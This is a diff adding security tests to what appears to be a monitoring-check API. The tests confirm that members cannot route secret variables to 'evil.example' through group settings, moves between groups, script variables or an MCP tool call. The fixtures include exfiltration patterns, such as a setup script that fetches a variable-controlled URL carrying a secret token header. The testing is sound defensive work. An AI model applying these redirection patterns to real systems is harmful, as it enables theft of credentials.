@@ -300,3 +300,82 @@ test("a member adds no script that would receive hidden values, and changes none
   const renamed = await write("PUT", `/v1/checks/api/${check.id}`, { name: "Renamed" });
   assert.equal(renamed.status, 200, renamed.text);
 });
+
+test("a member cannot redirect hidden values of checks through a group without its own", async () => {
+  const token = { key: "REDIRECT_TOKEN", value: canary, secret: true };
+  await make(decide("POST", "/v1/variables", token));
+  const variables = (host: string) => [{ key: "SHOP_HOST", value: host }];
+  const group = await make(
+    write("POST", "/v1/check-groups", {
+      name: "Plain",
+      apiCheckDefaults: { url: ours },
+      environmentVariables: variables("api.example.com"),
+    }),
+  );
+  const groupId = group.id;
+  const path = `/v1/check-groups/${groupId}`;
+  const request = { hostname: "{{SHOP_HOST}}", port: 443, data: "{{REDIRECT_TOKEN}}" };
+  const tcp = { name: "Through", activated: false, groupId, request };
+  const { id: tcpId } = await make(decide("POST", "/v1/checks/tcp", tcp));
+  const evil = { environmentVariables: variables("evil.example") };
+  await assertRejected(write("PUT", path, evil), /REDIRECT_TOKEN/);
+  assert.equal((await write("PUT", path, { name: "Plain 2" })).status, 200);
+  assert.equal((await decide("DELETE", `/v1/checks/${tcpId}`)).status, 204);
+  assert.equal((await write("PUT", path, evil)).status, 200, "no check uses the variable");
+
+  const headers = [locked];
+  const api = apiCheck("{{GROUP_BASE_URL}}/a", { groupId, request: { headers } });
+  await make(decide("POST", "/v1/checks/api", api));
+  const elsewhere = { apiCheckDefaults: { url: "https://evil.example" } };
+  await assertRejected(write("PUT", path, elsewhere), /hidden values of the check/);
+  assert.equal((await decide("PUT", path, elsewhere)).status, 200);
+});
+
+test("a member cannot redirect hidden values by moving checks between groups", async () => {
+  await make(decide("POST", "/v1/variables", { key: "MOVED_TOKEN", value: canary, secret: true }));
+  const newPlain = async (host: string) => {
+    const environmentVariables = [{ key: "MOVE_HOST", value: host }];
+    return (await make(write("POST", "/v1/check-groups", { name: host, environmentVariables }))).id;
+  };
+  const [home, evil] = [await newPlain("api.example.com"), await newPlain("evil.example")];
+  const request = { hostname: "{{MOVE_HOST}}", port: 443, data: "{{MOVED_TOKEN}}" };
+  const tcp = { name: "Moved", activated: false, groupId: home, request };
+  const { id } = await make(decide("POST", "/v1/checks/tcp", tcp));
+  const move = (groupId: unknown) =>
+    write("POST", "/v1/checks/bulk", { ids: [id], action: "move", groupId });
+  await assertRejected(move(evil), /MOVED_TOKEN/);
+  await assertRejected(move(null), /MOVED_TOKEN/);
+  await assertRejected(write("PUT", `/v1/checks/tcp/${id}`, { groupId: evil }), /MOVED_TOKEN/);
+  const same = await move(await newPlain("api.example.com"));
+  assert.deepEqual([same.status, same.body.checks?.[0].outcome], [200, "changed"], same.text);
+});
+
+test("a variable that a script reads cannot redirect what the script sends", async () => {
+  await make(decide("POST", "/v1/variables", { key: "READ_TOKEN", value: canary, secret: true }));
+  const variables = (value: string) => ({ environmentVariables: [{ key: "TO", value }] });
+  const script = "fetch(process.env.TO, { headers: { t: process.env.READ_TOKEN } })";
+  const { id: groupId } = await make(
+    write("POST", "/v1/check-groups", { name: "Scripted", ...variables(ours) }),
+  );
+  const own = apiCheck(ours, { localSetupScript: script, ...variables(ours) });
+  const { id } = await make(decide("POST", "/v1/checks/api", own));
+  const evil = variables("https://evil.example");
+  await assertRejected(write("PUT", `/v1/checks/api/${id}`, evil), /the variable [A-Z_]+TOKEN/);
+  const ofGroup = apiCheck(ours, { localSetupScript: script, groupId });
+  await make(decide("POST", "/v1/checks/api", ofGroup));
+  await assertRejected(
+    write("PUT", `/v1/check-groups/${groupId}`, evil),
+    /the variable [A-Z_]+TOKEN/,
+  );
+  assert.equal((await write("PUT", `/v1/checks/api/${id}`, { name: "Renamed" })).status, 200);
+});
+
+test("a tool proposes no check that would send hidden values to a new host", async () => {
+  await make(decide("POST", "/v1/variables", { key: "TOOL_TOKEN", value: canary, secret: true }));
+  const request = { hostname: "evil.example", port: 443, data: "{{TOOL_TOKEN}}" };
+  const body = { checkType: "TCP", name: "Proposed", activated: false, request };
+  const params = { name: "create_check", arguments: { body } };
+  const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params };
+  const { text } = await write("POST", "/mcp", call);
+  assert.match(text, /would send .*TOOL_TOKEN/);
+});
